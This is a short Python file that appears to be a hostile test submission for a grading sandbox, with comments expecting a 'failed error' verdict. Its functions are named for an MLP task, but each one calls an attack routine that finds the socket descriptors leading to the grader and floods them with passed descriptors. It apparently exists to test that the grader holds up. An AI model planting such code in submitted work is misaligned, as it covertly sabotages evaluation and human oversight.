# hostile: sends descriptors and credentials with its bytes
# verdict: failed error
# layers: each
import os
import stat
import struct


def channels():
    """The descriptors that are sockets: one of them leads to the grader."""
    found = []
    for fd in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found


def send(data):
    for fd in channels():
        view = memoryview(data)
        while view:
            view = view[os.write(fd, view) :]


def attack():
    import socket

    for fd in channels():
        sock = socket.socket(fileno=os.dup(fd))
        try:
            socket.send_fds(sock, [b"\0" * 64], list(range(3)) * 20)
        except OSError:
            pass
        sock.detach()


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
